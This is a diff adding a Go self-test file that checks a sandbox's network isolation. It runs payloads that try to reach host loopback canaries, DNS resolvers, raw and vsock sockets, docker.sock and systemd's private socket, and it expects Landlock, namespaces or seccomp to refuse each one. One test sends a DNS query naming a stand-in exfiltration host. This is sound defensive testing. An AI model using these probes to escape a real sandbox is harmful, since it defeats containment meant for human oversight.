@@ -1,0 +1,109 @@
+package selftest
+
+import (
+	"fmt"
+	"path/filepath"
+
+	"golang.org/x/sys/unix"
+)
+
+// canaryAttempt is a payload aimed at a canary the host opens for it.
+// open returns the canary; args builds the payload's arguments from the
+// canary's address.
+func canaryAttempt(f Family, name, control, what string, open func(fx *fixtures) (*canary, error),
+	judge func(*observation) verdict, args func(addr string) []string) attempt {
+	return attempt{family: f, name: name, control: control, what: what, sandboxed: true,
+		plan: func(fx *fixtures) (*plan, error) {
+			c, err := open(fx)
+			if err != nil {
+				return nil, fmt.Errorf("open the host's canary: %w", err)
+			}
+			return &plan{req: payloadRequest(toolPayload, taskNone, args(c.addr)...),
+				judge: withCanary(c, judge), cleanup: []func(){c.stop}}, nil
+		}}
+}
+
+func tcp4(fx *fixtures) (*canary, error) { return fx.streamCanary("tcp4", "127.0.0.1:0") }
+func tcp6(fx *fixtures) (*canary, error) { return fx.streamCanary("tcp6", "[::1]:0") }
+func udp4(fx *fixtures) (*canary, error) { return fx.packetCanary("udp4", "127.0.0.1:0") }
+func udp6(fx *fixtures) (*canary, error) { return fx.packetCanary("udp6", "[::1]:0") }
+
+func abstractUnix(fx *fixtures) (*canary, error) {
+	return fx.streamCanary("unix", fmt.Sprintf("@%s-%d", fx.token, fx.seq.Add(1)))
+}
+
+func pathUnix(fx *fixtures) (*canary, error) {
+	return fx.streamCanary("unix", filepath.Join(fx.root, fmt.Sprintf("canary-%d.sock", fx.seq.Add(1))))
+}
+
+func with(name string) func(string) []string {
+	return func(addr string) []string { return []string{name, addr} }
+}
+
+// networkAttempts go around the proxy. TCP connect is Landlock's to
+// refuse (only the proxy's port may be connected to); everything else
+// finds an empty network namespace with lo only, where the host's
+// loopback canaries do not exist; sockets of other families and raw
+// sockets are the filter's.
+func networkAttempts() []attempt {
+	nw := FamilyNetwork
+	return []attempt{
+		canaryAttempt(nw, "tcp4-host-loopback", ControlLandlock, "a direct TCP connection to a canary on the host's 127.0.0.1",
+			tcp4, errnoIs("EACCES"), with("connect")),
+		canaryAttempt(nw, "tcp6-host-loopback", ControlLandlock, "a direct TCP connection to a canary on the host's [::1]",
+			tcp6, errnoIs("EACCES"), with("connect")),
+		payloadAttempt(nw, "tcp4-inside-port", ControlLandlock, "a TCP connection to 127.0.0.1:1 inside the sandbox (the kernel would answer ECONNREFUSED)",
+			toolPayload, taskNone, errnoIs("EACCES"), "connect", "127.0.0.1:1"),
+		canaryAttempt(nw, "tcp-fastopen", ControlNetNS, "data sent with the SYN (MSG_FASTOPEN, no connect(2)) to a canary on the host's 127.0.0.1",
+			tcp4, errnoIs("ECONNREFUSED", "EACCES"), with("tcp-fastopen")),
+		canaryAttempt(nw, "udp4-host-loopback", ControlNetNS, "a UDP datagram to a canary on the host's 127.0.0.1",
+			udp4, errnoIs("ECONNREFUSED"), with("udp-send")),
+		canaryAttempt(nw, "udp6-host-loopback", ControlNetNS, "a UDP datagram to a canary on the host's [::1]",
+			udp6, errnoIs("ECONNREFUSED"), with("udp-send")),
+		payloadAttempt(nw, "dns-stub-resolver", ControlNetNS, "a DNS query straight to 127.0.0.53:53 (systemd-resolved's stub)",
+			toolPayload, taskNone, errnoIs("ECONNREFUSED"), "dns-query", "127.0.0.53:53", "example.com"),
+		canaryAttempt(nw, "dns-host-resolver", ControlNetNS, "a DNS query straight to a resolver canary on the host's 127.0.0.1",
+			udp4, errnoIs("ECONNREFUSED"), func(a string) []string { return []string{"dns-query", a, "exfil.attacker.example"} }),
+		payloadAttempt(nw, "dns-resolv-conf-route", ControlNetNS, "a route to the resolvers in /etc/resolv.conf (UDP connect: a route lookup, nothing sent)",
+			toolPayload, taskNone, errnoIs("ENETUNREACH"), "resolver-route"),
+		payloadAttempt(nw, "routes", ControlNetNS, "interfaces and routes seen inside: anything but lo is a way out",
+			toolPayload, taskNone, notSucceeded, "routes"),
+		canaryAttempt(nw, "http-ignore-proxy", ControlLandlock, "an HTTP client that ignores $HTTP_PROXY, to a canary on the host's 127.0.0.1",
+			tcp4, errnoIs("EACCES"), func(a string) []string { return []string{"http-direct", "http://" + a + "/"} }),
+		payloadAttempt(nw, "raw-socket", ControlSeccomp, "a raw ICMP socket (AF_INET, SOCK_RAW)",
+			toolPayload, taskNone, filtered("EPERM"), "raw-socket", "inet"),
+		payloadAttempt(nw, "raw6-socket", ControlSeccomp, "a raw ICMPv6 socket (AF_INET6, SOCK_RAW)",
+			toolPayload, taskNone, filtered("EPERM"), "raw-socket", "inet6"),
+		payloadAttempt(nw, "packet-socket", ControlSeccomp, "a packet socket (AF_PACKET): the kernel would answer EPERM without CAP_NET_RAW",
+			toolPayload, taskNone, errnoIs("EAFNOSUPPORT"), "socket", "packet"),
+		payloadAttempt(nw, "netlink-socket", ControlSeccomp, "a netlink route socket (AF_NETLINK), which the kernel would open",
+			toolPayload, taskNone, errnoIs("EAFNOSUPPORT"), "socket", "netlink"),
+		{family: nw, name: "vsock-socket", control: ControlSeccomp, sandboxed: true,
+			what: "an AF_VSOCK socket, the way from a VM guest to its hypervisor", plan: planVsock},
+		canaryAttempt(nw, "abstract-unix", ControlNetNS, "a connection to an abstract unix socket the host listens on",
+			abstractUnix, errnoIs("ECONNREFUSED"), with("unix-connect")),
+		canaryAttempt(nw, "unix-socket-path", ControlMountNS, "a connection to a unix socket at its host path",
+			pathUnix, errnoIs("ENOENT"), with("unix-connect")),
+		payloadAttempt(nw, "docker-socket", ControlMountNS, "a connection to /var/run/docker.sock",
+			toolPayload, taskNone, errnoIs("ENOENT"), "unix-connect", "/var/run/docker.sock"),
+		payloadAttempt(nw, "systemd-socket", ControlMountNS, "a connection to systemd's private socket /run/systemd/private",
+			toolPayload, taskNone, errnoIs("ENOENT"), "unix-connect", "/run/systemd/private"),
+	}
+}
+
+// planVsock calibrates on the host first: where the host's kernel has no
+// AF_VSOCK, its EAFNOSUPPORT cannot be told from the filter's, and the
+// attempt says so instead of claiming the filter.
+func planVsock(*fixtures) (*plan, error) {
+	fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+	if err == nil {
+		unix.Close(fd)
+	}
+	judge := errnoIs("EAFNOSUPPORT")
+	if err == unix.EAFNOSUPPORT {
+		judge = func(*observation) verdict {
+			return skipped("the host's kernel has no AF_VSOCK (EAFNOSUPPORT outside the sandbox too): the filter's refusal cannot be told from the kernel's")
+		}
+	}
+	return &plan{req: payloadRequest(toolPayload, taskNone, "socket", "vsock"), judge: judge}, nil
+}
